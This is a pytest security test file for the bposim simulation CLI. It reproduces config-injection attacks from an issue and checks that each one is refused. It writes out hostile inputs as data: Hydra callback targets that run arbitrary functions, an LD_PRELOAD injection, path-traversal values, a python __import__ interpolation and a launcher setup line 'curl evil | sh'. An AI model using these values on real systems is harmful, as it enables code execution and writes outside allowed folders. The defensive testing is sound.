"""No code from configs, no write outside the run's folder, every bad input stopped at the door.

Each attack of issue #11 is reproduced here: on the code before the fix every one of these
tests failed (the file was created, the run exited 0, a traceback was printed, the job left
its sweep's folder)."""

from __future__ import annotations

import shutil
import subprocess
import sys
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hydra import compose as hydra_compose
from hydra import initialize_config_module
from hydra.core.global_hydra import GlobalHydra

import bposim
from bposim.cli import group_options_of
from bposim.config import ConfigError
from bposim.config.safety import check_composed, check_overrides, probe_writable, safe_name
from bposim.sweep.hydra_private import checked_compositions
from bposim.sweep.validate import sweep_jobs

EXE = shutil.which("bposim-run", path=str(Path(sys.executable).parent)) or "bposim-run"
SMALL = ["steps=4", "market.n_clients=1"]


def run_cli(args, cwd):
    return subprocess.run([EXE, *args], cwd=cwd, capture_output=True, text=True)


def _raise(err):
    raise ConfigError([str(err)])


def door(*overrides: str):
    """The composition bposim-run checks (with its hydra node), in this process: raises
    ConfigError where bposim-run stops with exit status 2."""
    GlobalHydra.instance().clear()
    try:
        with checked_compositions(lambda loader, o: check_overrides(o, group_options_of(loader, o)),
                                  check_composed, _raise):
            with initialize_config_module(config_module="bposim.configs", version_base="1.3"):
                return hydra_compose(config_name="config", overrides=list(overrides), return_hydra_config=True)
    finally:
        GlobalHydra.instance().clear()


# --- no code from configs ---------------------------------------------------------------------


def test_a_callback_from_the_command_line_is_refused_before_it_runs(tmp_path):
    target = tmp_path / "PWNED"
    out = run_cli(["+hydra.callbacks.x._target_=pathlib.Path.touch", f"+hydra.callbacks.x.self={target}",
                   *SMALL, "hydra.run.dir=run"], tmp_path)
    assert out.returncode == 2
    assert "hydra.callbacks.x._target_ = 'pathlib.Path.touch' is not allowed" in out.stderr
    assert "Traceback" not in out.stderr and len(out.stderr.strip().splitlines()) == 1
    assert not target.exists() and not (tmp_path / "run").exists()


def test_a_callback_from_a_sweep_is_refused_before_any_job(tmp_path):
    target = tmp_path / "PWNED"
    out = subprocess.run([EXE, "-m", "seed=1,2", "+hydra.callbacks.x._target_=pathlib.Path.touch",
                          f"+hydra.callbacks.x.self={target}", *SMALL], cwd=tmp_path, capture_output=True, text=True)
    assert out.returncode == 2 and "hydra.callbacks.x._target_" in out.stderr
    assert not target.exists() and not (tmp_path / "multirun").exists()


def test_a_callback_from_a_yaml_file_on_the_search_path_is_refused(tmp_path):
    target = tmp_path / "PWNED"
    (tmp_path / "conf" / "experiment").mkdir(parents=True)
    (tmp_path / "conf" / "experiment" / "evil.yaml").write_text(
        "# @package _global_\nhydra:\n  callbacks:\n    x:\n      _target_: pathlib.Path.touch\n"
        f"      self: {target}\n")
    out = run_cli([f"hydra.searchpath=[file://{tmp_path / 'conf'}]", "+experiment=evil", *SMALL], tmp_path)
    assert out.returncode == 2 and "hydra.callbacks.x._target_" in out.stderr
    assert not target.exists()


@pytest.mark.parametrize("overrides, named", [
    (["+hydra.callbacks.x._target_=builtins.open", "+hydra.callbacks.x.file=/tmp/x", "+hydra.callbacks.x.mode=w"],
     "hydra.callbacks.x._target_"),
    (["+hydra.callbacks.x._target_=builtins.print", "+hydra.callbacks.x.file=/tmp/x"], "hydra.callbacks.x._target_"),
    (["hydra.callbacks.validate._target_=builtins.print"], "hydra.callbacks.validate"),
    (["~hydra.callbacks.validate"], "hydra.callbacks.validate"),
    (["+hydra.callbacks.validate.x._target_=pathlib.Path.touch"], "hydra.callbacks.validate"),
    (["+hydra.job_logging.handlers.x={class:logging.handlers.SocketHandler,host:h,port:1}"],
     "hydra.job_logging.handlers.x.class"),
    (["hydra.job_logging.handlers.file.filename=/tmp/elsewhere.log"], "hydra.job_logging.handlers.file.filename"),
    (["hydra/launcher=joblib", "+hydra.launcher.x._target_=pathlib.Path.touch"], "hydra.launcher.x._target_"),
    (["hydra.sweeper._target_=pathlib.Path"], "hydra.sweeper._target_"),
    (["hydra.run.dir=${oc.env:HOME}/x"], "hydra.run.dir"),
    (["+hydra.job.env_set.LD_PRELOAD=/tmp/x.so"], "hydra.job.env_set"),
    (["hydra/launcher=submitit_slurm", "hydra.launcher.setup=['curl evil | sh']"], "hydra.launcher.setup"),
    (["hydra.sweep.subdir=../../x"], "hydra.sweep.subdir"),
    (["hydra.output_subdir=../x"], "hydra.output_subdir"),
    (["hydra.job.name=../x"], "hydra.job.name"),
    (["hydra.searchpath=[pkg://os]"], "hydra.searchpath"),
    (["label=${oc.env:HOME}"], "label"),
    (["client.audit_rate=${python:__import__('os').getcwd()}"], "client.audit_rate"),
])
def test_the_door_refuses_code_environment_and_escapes_naming_the_key(overrides, named):
    with pytest.raises(ConfigError) as err:
        door(*overrides)
    assert named in str(err.value)
    assert "/root" not in str(err.value), "an interpolation is never resolved into a message"


@pytest.mark.parametrize("group", ["job_logging", "hydra_logging"])
def test_a_logging_factory_from_a_yaml_file_is_refused(tmp_path, group):
    target = tmp_path / "PWNED"
    (tmp_path / "conf" / "hydra" / group).mkdir(parents=True)
    (tmp_path / "conf" / "hydra" / group / "evil.yaml").write_text(
        "version: 1\nformatters:\n  f:\n    (): pathlib.Path.touch\n"
        f"    self: {target}\nhandlers: {{}}\nroot: {{handlers: []}}\n")
    with pytest.raises(ConfigError, match=rf"hydra.{group}.formatters.f.\(\) = 'pathlib.Path.touch' is not allowed"):
        door(f"hydra.searchpath=[file://{tmp_path / 'conf'}]", f"hydra/{group}=evil")
    assert not target.exists()


def test_the_door_lets_the_shipped_configs_and_hydras_plugins_through():
    door()
    door("hydra/launcher=joblib", "hydra/sweeper=basic", "+hydra.callbacks.log._target_="
         "hydra.experimental.callbacks.LogJobReturnCallback")
    door("hydra/launcher=submitit_local")
    for path in sorted((Path(bposim.__file__).parents[1] / "configs" / "experiment").glob("*.yaml")):
        door(f"+experiment={path.stem}")


def test_removing_the_validator_stops_the_run_and_writes_nothing(tmp_path):
    out = run_cli(["~hydra.callbacks.validate", *SMALL, "hydra.run.dir=run"], tmp_path)
    assert out.returncode == 2 and "cannot be removed or replaced" in out.stderr
    assert "Traceback" not in out.stderr and list(tmp_path.iterdir()) == []


def test_pickled_configs_are_refused(tmp_path):
    out = run_cli(["--experimental-rerun", str(tmp_path / "x.pickle")], tmp_path)
    assert out.returncode == 2 and "--experimental-rerun" in out.stderr


# --- paths ------------------------------------------------------------------------------------


def test_a_sweep_value_with_separators_stays_inside_the_sweep_folder(tmp_path):
    out = subprocess.run([EXE, "-m", "label=a,../../../x", *SMALL, "hydra.sweep.dir=s"], cwd=tmp_path,
                         capture_output=True, text=True)
    assert out.returncode == 0, out.stderr
    jobs = sorted(p.name for p in (tmp_path / "s").iterdir() if p.is_dir())
    assert len(jobs) == 2 and all("/" not in j for j in jobs), jobs
    assert not (tmp_path.parent / "x").exists() and not list(tmp_path.parent.glob("label=*"))
    summary = pd.read_parquet(tmp_path / "s" / "sweep_summary.parquet")
    assert sorted(summary.label) == ["../../../x", "a"], "every job is in the summary"


@pytest.mark.parametrize("text", ["label=../../../x", "a/b", "..", ".", "x\x00y", "tab\there", "é" * 300,
                                  "label=" + "z" * 500])
def test_job_folder_names_are_one_safe_bounded_component(text):
    name = safe_name(text)
    assert "/" not in name and "\\" not in name and name not in (".", "..")
    assert all(ord(c) >= 32 and c != "\x7f" for c in name) and len(name.encode()) < 255
    assert safe_name(text + "1") != name, "still unique"


def test_readable_names_are_kept_as_hydra_gives_them():
    name = "client.audit_rate=0.05,market.n_clients=2,replications=3,scheme=per_volume,steps=26"
    assert safe_name(name) == name


def test_a_run_folder_that_cannot_be_written_stops_before_anything_is_written(tmp_path):
    (tmp_path / "afile").write_text("")
    out = run_cli([*SMALL, "hydra.run.dir=afile/run"], tmp_path)
    assert out.returncode == 2 and "hydra.run.dir" in out.stderr and "Traceback" not in out.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["afile"]


def test_a_sweep_folder_that_cannot_be_written_stops_before_any_job(tmp_path):
    (tmp_path / "afile").write_text("")
    out = subprocess.run([EXE, "-m", "seed=1,2", *SMALL, "hydra.sweep.dir=afile/s"], cwd=tmp_path,
                         capture_output=True, text=True)
    assert out.returncode == 2 and "hydra.sweep.dir" in out.stderr and "Traceback" not in out.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["afile"]


def test_probe_writable_names_the_option_and_leaves_nothing(tmp_path):
    (tmp_path / "f").write_text("")
    for path in (tmp_path / "f", tmp_path / "f" / "x", Path("/proc/bposim/x")):
        with pytest.raises(ConfigError, match="--out"):
            probe_writable(path, "--out")
    (tmp_path / "d").mkdir()
    (tmp_path / "d" / "figures").write_text("")
    with pytest.raises(ConfigError, match="figures"):
        probe_writable(tmp_path / "d", "--out", subfolders=("figures",))
    probe_writable(tmp_path / "new" / "deeper", "--out")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["d", "f"]


# --- bad values at the door -------------------------------------------------------------------


@pytest.mark.parametrize("overrides, message", [
    (["seed=18446744073709551616"], "seed = 18446744073709551616 is out of range: allowed [0, 18446744073709551615]"),
    (["client.review_warn=2"], "client.review_warn = 2 must be true or false"),
    (["scheme=per_volume", "scheme.rate=[1,2]"], "scheme.rate = [1, 2] must be a number"),
    (["market.n_clients=[1]"], "market.n_clients = [1] must be a whole number"),
    (["steps=[1"], "steps: cannot read the override 'steps=[1'"),
    (["client.audit_rate=${oc.env:HOME}"], "client.audit_rate = '${oc.env:HOME}' is an interpolation"),
    (["steps=26.0"], "steps = 26.0 must be a whole number"),
    (["scheme=nope"], "scheme = 'nope' is not a known option: allowed fixed_fee"),
])
def test_bad_values_are_refused_naming_field_value_and_what_is_allowed(overrides, message):
    with pytest.raises(ConfigError) as err:
        bposim.compose(overrides)
    assert message in str(err.value)


def test_a_list_in_a_schemes_numeric_field_is_refused_not_a_type_error():
    for spec in ({"name": "hybrid", "fixed_fee": [1, 2]}, {"name": "hybrid", "per_volume": "abc"}):
        with pytest.raises(ConfigError, match=r"scheme\.(fixed_fee|per_volume) = .* must be a number"):
            bposim.config.validate({"scheme": spec})


def test_a_hydra_group_option_that_does_not_exist_is_named(capsys):
    with pytest.raises(ConfigError, match="hydra/launcher = 'nope' is not a known option: allowed basic, joblib"):
        door("hydra/launcher=nope")


def test_an_allowed_launcher_whose_extra_is_not_installed_is_named_with_the_install():
    installed = lambda group: ["basic", "joblib"] if group == "hydra/launcher" else []  # noqa: E731
    for launcher, extra in (("ray", "ray"), ("submitit_slurm", "slurm")):
        with pytest.raises(ConfigError, match=rf"- hydra/launcher = '{launcher}' needs hydra-\w+-launcher, which is "
                                              rf"not installed: pip install \"bposim\[{extra}\]\"$"):
            check_overrides([f"hydra/launcher={launcher}"], installed)


def test_the_seeds_upper_bound_is_exact():
    assert bposim.compose(["seed=18446744073709551615"]).seed == 2 ** 64 - 1
    with pytest.raises(ConfigError, match="seed = 18446744073709551616 is out of range"):
        bposim.config.validate({"seed": 2 ** 64})


@pytest.mark.parametrize("replications", [0, -1, "3", 2.5, 2_000_000, True])
def test_simulate_checks_its_replications(replications):
    with pytest.raises(ConfigError, match=r"replications = .* (must be a whole number|is out of range)"):
        bposim.simulate(["steps=2"], replications=replications)


@pytest.mark.parametrize("rng", [2.5, -1, 2 ** 64, "3", True])
def test_the_models_rng_is_named_in_its_errors(rng):
    with pytest.raises(ConfigError, match=r"^invalid bposim configuration:\n  - rng = "):
        bposim.BPOModel(steps=2, rng=rng)


def test_valid_keywords_still_work():
    assert bposim.BPOModel(steps=2, rng=np.int64(3)).seed == 3
    assert bposim.BPOModel(steps=2, rng=np.random.default_rng(1)).seed >= 0
    assert len(bposim.simulate(["steps=2"], replications=np.int64(2)).summary) == 2


@pytest.mark.parametrize("keywords, message", [
    ({"steps": 2.5}, "steps = 2.5 must be a whole number"),
    ({"steps": "3"}, "steps = '3' must be a whole number"),
    ({"review_warn": 2}, "review_warn = 2 must be true or false"),
    ({"audit_rate": [0.1]}, "audit_rate = [0.1] must be a number"),
])
def test_model_keywords_have_exact_types(keywords, message):
    with pytest.raises(ConfigError, match=message.replace("[", r"\[").replace("]", r"\]")):
        bposim.BPOModel(**keywords)


@pytest.mark.parametrize("sweep, message", [
    (["seed=range(5,1)"], "seed=range(5,1) gives no values"),
    (["seed=range(1,5,0)"], "seed=range(1,5,0): cannot be expanded into jobs"),
    (["client.audit_rate=interval(0,1)"], "client.audit_rate=interval(0,1): cannot be expanded"),
    (["client.review_warn=true,2"], "client.review_warn = 2 must be true or false"),
])
def test_sweeps_that_cannot_run_are_refused(sweep, message):
    with pytest.raises(ConfigError, match=message.replace("(", r"\(").replace(")", r"\)")):
        sweep_jobs(sweep)


def test_an_empty_sweep_exits_2_and_writes_nothing(tmp_path):
    out = subprocess.run([EXE, "-m", "seed=range(5,1)", *SMALL], cwd=tmp_path, capture_output=True, text=True)
    assert out.returncode == 2 and "gives no values" in out.stderr
    assert list(tmp_path.iterdir()) == []


# --- the other commands -----------------------------------------------------------------------

from bposim.cli import collect_main, write_run  # noqa: E402
from bposim.compare import main as compare_main  # noqa: E402
from bposim.compare import report_main  # noqa: E402
from bposim.sweep import collate  # noqa: E402


def _one_line_refusal(capsys, code, *words):
    err = capsys.readouterr().err
    assert code == 2, err
    assert len(err.strip().splitlines()) == 1 and "Traceback" not in err, err
    for word in words:
        assert word in err, err
    return err


@pytest.mark.parametrize("args, words", [
    (["client.no_such_key=1"], ["client.no_such_key is not a parameter of client"]),
    (["market=nope"], ["market = 'nope' is not a known option: allowed default"]),
    (["steps=abc"], ["steps = 'abc' must be a whole number"]),
    (["steps=[1"], ["steps: cannot read the override"]),
    (["hydra.run.dir=x"], ["hydra.run.dir=x", "not taken here"]),
    (["+hydra.callbacks.x._target_=pathlib.Path.touch"], ["hydra.callbacks.x._target_"]),
    (["client.review_warn=2"], ["client.review_warn = 2 must be true or false"]),
])
def test_compare_refuses_bad_overrides_on_one_line_and_writes_nothing(tmp_path, capsys, args, words):
    code = compare_main([*args, "steps=2", "replications=2", "--out", str(tmp_path / "rep")])
    _one_line_refusal(capsys, code, *words)
    assert not (tmp_path / "rep").exists()


def test_compare_refuses_an_out_folder_it_cannot_write_before_simulating(tmp_path, capsys):
    (tmp_path / "afile").write_text("")
    _one_line_refusal(capsys, compare_main(["steps=2", "--out", str(tmp_path / "afile")]), "--out", "is a file")
    (tmp_path / "rep").mkdir()
    (tmp_path / "rep" / "figures").write_text("")
    _one_line_refusal(capsys, compare_main(["steps=2", "--out", str(tmp_path / "rep")]), "figures")
    _one_line_refusal(capsys, compare_main(["steps=2", "--out", "/proc/bposim/rep"]), "--out", "cannot be written")
    assert sorted(p.name for p in (tmp_path / "rep").iterdir()) == ["figures"]


@pytest.fixture
def finished_sweep(tmp_path):
    sweep = tmp_path / "sweep"
    for seed in (1, 2):
        job = sweep / f"seed={seed}"
        write_run(bposim.simulate([f"seed={seed}", "steps=3"]), job)
        (job / ".hydra").mkdir()
        (job / ".hydra" / "overrides.yaml").write_text(f"- seed={seed}\n- steps=3\n")
    collate(sweep)
    return sweep


def test_a_damaged_sweep_folder_is_named_by_report_and_collect(finished_sweep, capsys):
    assert report_main([str(finished_sweep / "nowhere")]) == 2
    capsys.readouterr()
    (finished_sweep / "seed=1" / "config.yaml").write_text("seed: [1\n")
    _one_line_refusal(capsys, report_main([str(finished_sweep)]), str(finished_sweep / "seed=1" / "config.yaml"))
    (finished_sweep / "seed=1" / "config.yaml").write_text("seed: -1\n")
    _one_line_refusal(capsys, report_main([str(finished_sweep)]), "seed=1/config.yaml", "seed = -1 is out of range")
    (finished_sweep / "seed=2" / ".hydra" / "overrides.yaml").write_text("[unclosed\n")
    _one_line_refusal(capsys, collect_main([str(finished_sweep)]), "seed=2/.hydra/overrides.yaml")
    (finished_sweep / "seed=2" / ".hydra" / "overrides.yaml").write_text("- seed=2\n")
    summary = finished_sweep / "seed=2" / "summary.parquet"
    summary.write_bytes(summary.read_bytes()[:40])
    _one_line_refusal(capsys, collect_main([str(finished_sweep)]), str(summary))
    table = finished_sweep / "sweep_summary.parquet"
    table.write_bytes(table.read_bytes()[:40])
    _one_line_refusal(capsys, report_main([str(finished_sweep)]), str(table))
    pd.DataFrame({"job": pd.Series([], dtype=str)}).to_parquet(table)
    _one_line_refusal(capsys, report_main([str(finished_sweep)]), "has no rows")


def test_collect_refuses_a_folder_with_no_finished_job(tmp_path, capsys):
    _one_line_refusal(capsys, collect_main([str(tmp_path)]), "no finished job")
    _one_line_refusal(capsys, collect_main([str(tmp_path / "nope")]), "is not a folder")


@pytest.mark.parametrize("args, words", [
    (["--host", ""], ["--host = ''", "is not an address"]),
    (["--host", "999.1.1.1"], ["--host = '999.1.1.1'"]),
    (["--cull-timeout", "abc"], ["--cull-timeout = 'abc'"]),
    (["--port", "0"], ["--port = 0"]),
])
def test_dashboard_options_are_checked(capsys, args, words):
    from bposim.app.server import parse

    with pytest.raises(SystemExit) as stop:
        parse(args)
    err = capsys.readouterr().err
    assert stop.value.code == 2 and all(w in err for w in words) and "Traceback" not in err


def test_a_dashboard_shared_with_the_network_says_so(monkeypatch, capsys):
    from bposim.app import server

    monkeypatch.setattr(server.os, "execve", lambda *a: None)
    server.serve(["--host", "0.0.0.0"])
    assert "warning: --host 0.0.0.0 shares the page with the network" in capsys.readouterr().err
    server.serve(["--host", "127.0.0.1"])
    assert "warning" not in capsys.readouterr().err
